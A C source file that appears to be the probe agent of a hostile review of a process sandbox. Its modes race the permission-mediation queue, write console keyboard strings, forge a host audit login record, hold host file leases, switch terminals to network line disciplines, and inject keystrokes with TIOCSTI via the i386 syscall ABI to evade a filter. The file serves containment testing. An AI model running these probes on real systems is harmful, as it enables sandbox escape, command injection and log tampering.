/* ha41-agent.c: hostile review h-attack41's agent. Built static with
 * musl-gcc by the scripts. Modes:
 *
 *   burst N DELAY_US EXIT_MS ADDR PORT
 *       the receiver pool below its cap (notify.c, 16384): N threads wait
 *       on one barrier, then all at once make a blocking TCP connect to a
 *       loopback listener of ours whose accept queue is full (allowed:
 *       each receiver that takes one performs it and waits in the SYN
 *       retries). One more thread, released by the same barrier, waits
 *       DELAY_US and makes a UDP connect to ADDR:PORT (undeclared: denied,
 *       sends nothing). The main thread, EXIT_MS after the release, exits
 *       (exit_group). The kernel's queue is FIFO and every receiver that
 *       takes a call is then stuck in it, so the N-th call is received only
 *       after N receivers were started one after another (leader/followers:
 *       the one that takes a call starts the next); the denied connect,
 *       queued behind them, waits that long and is withdrawn with its task.
 *   burstq N DELAY_US EXIT_MS ADDR PORT
 *       the same with an accept queue of 4096 (somaxconn): each allowed
 *       connect completes at once and its receiver goes back to receive, so
 *       nothing blocks; the queue still drains one mediation at a time.
 *   vtkey [ctty]
 *       on fd 0, a virtual console: with ctty, TIOCSCTTY first (a
 *       sessionless VT becomes ours); then the keyboard's string table
 *       (KDSKBSENT: what a function key types, on every VT of the host) is
 *       written in an unused slot (250), read back and cleared, and the
 *       keymap entry of Enter (KDSKBENT: which key types what) is written
 *       with the value it has. The kernel's check is only "perm": the
 *       caller's controlling terminal, or CAP_SYS_TTY_CONFIG (kept by
 *       caps.c). Nothing is left changed.
 *   rootcaps FILE
 *       what a root agent's kept capabilities reach beyond its run:
 *       CAP_AUDIT_WRITE (a user record in the host's audit log),
 *       CAP_AUDIT_READ (the host's audit multicast: every record of the
 *       host), CAP_AUDIT_CONTROL (AUDIT_GET: refused outside the initial
 *       pid namespace), CAP_LEASE (a read lease on FILE, a host file it
 *       may only read: a writer of the host's blocks on its open until the
 *       lease breaks, lease-break-time, 45 s; released at once here).
 *   lease FILE SECS
 *       takes that read lease on FILE and holds it SECS s, ignoring the
 *       kernel's SIGIO that asks for it back.
 *   ldisc
 *       on fd 0, a terminal: TIOCSETD to each line discipline that makes a
 *       terminal a network link (SLIP 1, PPP 3, SLCAN 17, CAIF 20, GSM
 *       21, 6PACK 7, AX25 5) and HDLC 13, NULL 27; N_TTY back after each.
 *   sti32 LINE
 *       on fd 0, a terminal no session holds: TIOCSCTTY, then LINE and
 *       Enter typed with TIOCSTI through the i386 ABI (int $0x80, ioctl is
 *       54 there), the ABI the foreign filter covers (add_foreign).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/kd.h>
#include <sys/ioctl.h>
#include <linux/audit.h>
#include <linux/netlink.h>
#ifndef AUDIT_USER_LOGIN
#define AUDIT_USER_LOGIN 1112 /* libaudit.h: userspace records */
#endif
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static struct sockaddr_in listen_addr, deny_addr;
static pthread_barrier_t go;
static long delay_us;

static void *one_connect(void *arg)
{
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	(void)arg;
	pthread_barrier_wait(&go);
	if (fd >= 0)
		(void)connect(fd, (struct sockaddr *)&listen_addr, sizeof(listen_addr));
	return NULL;
}

static void *denied_connect(void *arg)
{
	int u = socket(AF_INET, SOCK_DGRAM, 0), rc;

	(void)arg;
	pthread_barrier_wait(&go);
	if (delay_us > 0)
		usleep((useconds_t)delay_us);
	rc = connect(u, (struct sockaddr *)&deny_addr, sizeof(deny_addr));
	printf("ha41 burst: denied connect returned %d (%s)\n", rc, rc ? strerror(errno) : "ok");
	fflush(stdout);
	return NULL;
}

static int burst(int n, long dus, long exit_ms, const char *addr, int port, int backlog)
{
	socklen_t len = sizeof(listen_addr);
	int lfd = socket(AF_INET, SOCK_STREAM, 0);
	struct rlimit rl = {65536, 65536};
	struct timespec ts = {.tv_sec = exit_ms / 1000, .tv_nsec = (exit_ms % 1000) * 1000000L};
	pthread_attr_t attr;
	pthread_t t;

	delay_us = dus;
	setrlimit(RLIMIT_NOFILE, &rl);
	deny_addr.sin_family = AF_INET;
	deny_addr.sin_port = htons((uint16_t)port);
	inet_pton(AF_INET, addr, &deny_addr.sin_addr);
	listen_addr.sin_family = AF_INET;
	listen_addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (lfd < 0 || bind(lfd, (struct sockaddr *)&listen_addr, sizeof(listen_addr)) != 0 ||
	    getsockname(lfd, (struct sockaddr *)&listen_addr, &len) != 0 ||
	    listen(lfd, backlog) != 0)
		return 2;
	pthread_attr_init(&attr);
	pthread_attr_setstacksize(&attr, 64 * 1024);
	pthread_attr_setdetachstate(&attr, PTHREAD_CREATE_DETACHED);
	pthread_barrier_init(&go, NULL, (unsigned)n + 2);
	for (int i = 0; i < n; i++)
		if (pthread_create(&t, &attr, one_connect, NULL) != 0) {
			printf("ha41 burst: only %d threads\n", i);
			return 2;
		}
	if (pthread_create(&t, &attr, denied_connect, NULL) != 0)
		return 2;
	printf("ha41 burst: %d threads ready, release\n", n);
	fflush(stdout);
	pthread_barrier_wait(&go);
	nanosleep(&ts, NULL);
	printf("ha41 burst: exit_group\n");
	fflush(stdout);
	_exit(0);
}

static int try_ioctl(const char *name, unsigned long cmd, void *arg)
{
	int rc = ioctl(0, cmd, arg);

	printf("ha41 ioctl %s: %s\n", name, rc < 0 ? strerror(errno) : "ok");
	fflush(stdout);
	return rc;
}

static int vtkey(int ctty)
{
	struct kbsentry s = {.kb_func = 250};
	struct kbentry e = {.kb_table = 0, .kb_index = 28 /* Enter */};

	if (ctty)
		try_ioctl("TIOCSCTTY", TIOCSCTTY, 0);
	if (try_ioctl("KDGKBSENT 250", KDGKBSENT, &s) == 0 && s.kb_string[0] == 0) {
		snprintf((char *)s.kb_string, sizeof(s.kb_string), "echo ha41-typed\n");
		if (try_ioctl("KDSKBSENT 250 (a function key's string)", KDSKBSENT, &s) == 0) {
			memset(s.kb_string, 0, sizeof(s.kb_string));
			try_ioctl("KDGKBSENT 250", KDGKBSENT, &s);
			printf("ha41 vtkey: slot 250 now types \"%.14s\"\n", (char *)s.kb_string);
			memset(s.kb_string, 0, sizeof(s.kb_string));
			try_ioctl("KDSKBSENT 250 cleared", KDSKBSENT, &s);
		}
	}
	if (try_ioctl("KDGKBENT Enter", KDGKBENT, &e) == 0)
		try_ioctl("KDSKBENT Enter (the value it has)", KDSKBENT, &e);
	return 0;
}

static int audit_send(int fd, int type, const char *text)
{
	struct {
		struct nlmsghdr h;
		char body[256];
	} m = {0};
	struct sockaddr_nl k = {.nl_family = AF_NETLINK};
	char buf[4096];
	struct nlmsghdr *r = (struct nlmsghdr *)buf;
	size_t len = text ? strlen(text) + 1 : 0;

	memcpy(m.body, text ? text : "", len);
	m.h.nlmsg_len = (unsigned)NLMSG_LENGTH(len);
	m.h.nlmsg_type = (unsigned short)type;
	m.h.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK;
	m.h.nlmsg_seq = 1;
	if (sendto(fd, &m, m.h.nlmsg_len, 0, (struct sockaddr *)&k, sizeof(k)) < 0)
		return -errno;
	for (;;) {
		ssize_t n = recv(fd, buf, sizeof(buf), 0);

		if (n < 0)
			return -errno;
		if (r->nlmsg_type == NLMSG_ERROR)
			return ((struct nlmsgerr *)NLMSG_DATA(r))->error;
		if (r->nlmsg_type == type)
			return 0; /* AUDIT_GET's answer */
	}
}

static void said(const char *what, int rc)
{
	printf("ha41 rootcaps %s: %s\n", what, rc == 0 ? "ok" : strerror(-rc));
	fflush(stdout);
}

static int rootcaps(const char *file)
{
	int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT), rfd, lf;
	struct sockaddr_nl grp = {.nl_family = AF_NETLINK, .nl_groups = 1 /* READLOG */};

	said("socket NETLINK_AUDIT", fd < 0 ? -errno : 0);
	if (fd >= 0) {
		said("AUDIT_USER_LOGIN record (CAP_AUDIT_WRITE)",
		     audit_send(fd, AUDIT_USER_LOGIN, "op=login acct=\"ha41-forged\" res=success"));
		said("AUDIT_GET (CAP_AUDIT_CONTROL)", audit_send(fd, AUDIT_GET, NULL));
	}
	rfd = socket(AF_NETLINK, SOCK_RAW, NETLINK_AUDIT);
	said("bind AUDIT_NLGRP_READLOG (CAP_AUDIT_READ)",
	     rfd < 0                                                ? -errno
	     : bind(rfd, (struct sockaddr *)&grp, sizeof(grp)) == 0 ? 0
								    : -errno);
	lf = open(file, O_RDONLY);
	said("F_SETLEASE F_RDLCK on the host's file (CAP_LEASE)",
	     lf < 0                                ? -errno
	     : fcntl(lf, F_SETLEASE, F_RDLCK) == 0 ? 0
						   : -errno);
	if (lf >= 0)
		(void)fcntl(lf, F_SETLEASE, F_UNLCK);
	return 0;
}

static int lease(const char *file, int secs)
{
	int lf = open(file, O_RDONLY);

	signal(SIGIO, SIG_IGN);
	said("F_SETLEASE F_RDLCK (held)", lf < 0                                ? -errno
					  : fcntl(lf, F_SETLEASE, F_RDLCK) == 0 ? 0
										: -errno);
	sleep((unsigned)secs);
	return 0;
}

static int ldisc(void)
{
	static const struct {
		int n;
		const char *name;
	} d[] = {{1, "N_SLIP"},  {3, "N_PPP"},  {17, "N_SLCAN"}, {20, "N_CAIF"}, {21, "N_GSM0710"},
		 {7, "N_6PACK"}, {5, "N_AX25"}, {13, "N_HDLC"},  {27, "N_NULL"}};
	int tty = 0;

	for (size_t i = 0; i < sizeof(d) / sizeof(d[0]); i++) {
		int rc = ioctl(0, TIOCSETD, &d[i].n), err = errno;

		printf("ha41 ldisc %s: %s\n", d[i].name, rc == 0 ? "set" : strerror(err));
		if (rc == 0)
			(void)ioctl(0, TIOCSETD, &tty);
	}
	fflush(stdout);
	return 0;
}

static char low_byte; /* a non-PIE static binary: below 4 GiB, as int $0x80 needs */

static long ioctl32(long fd, long cmd, long arg)
{
	long rc;

	__asm__ volatile("int $0x80" : "=a"(rc) : "a"(54L), "b"(fd), "c"(cmd), "d"(arg) : "memory");
	return rc;
}

static int sti32(const char *text)
{
	long rc = 0;

	try_ioctl("TIOCSCTTY", TIOCSCTTY, 0);
	for (const char *p = text; rc == 0 && *p; p++) {
		low_byte = *p;
		rc = ioctl32(0, TIOCSTI, (long)(uintptr_t)&low_byte);
	}
	if (rc == 0) {
		low_byte = '\n';
		rc = ioctl32(0, TIOCSTI, (long)(uintptr_t)&low_byte);
	}
	printf("ha41 sti32: %s\n", rc == 0 ? "typed" : strerror((int)-rc));
	fflush(stdout);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 2 && strcmp(argv[1], "ldisc") == 0)
		return ldisc();
	if (argc == 3 && strcmp(argv[1], "sti32") == 0)
		return sti32(argv[2]);
	if (argc == 4 && strcmp(argv[1], "lease") == 0)
		return lease(argv[2], atoi(argv[3]));
	if (argc == 3 && strcmp(argv[1], "rootcaps") == 0)
		return rootcaps(argv[2]);
	if (argc == 7 && strcmp(argv[1], "burst") == 0)
		return burst(atoi(argv[2]), atol(argv[3]), atol(argv[4]), argv[5], atoi(argv[6]),
			     0);
	if (argc == 7 && strcmp(argv[1], "burstq") == 0)
		return burst(atoi(argv[2]), atol(argv[3]), atol(argv[4]), argv[5], atoi(argv[6]),
			     4096);
	if (argc >= 2 && strcmp(argv[1], "vtkey") == 0)
		return vtkey(argc == 3 && strcmp(argv[2], "ctty") == 0);
	fprintf(stderr, "usage: see the comment in ha41-agent.c\n");
	return 2;
}
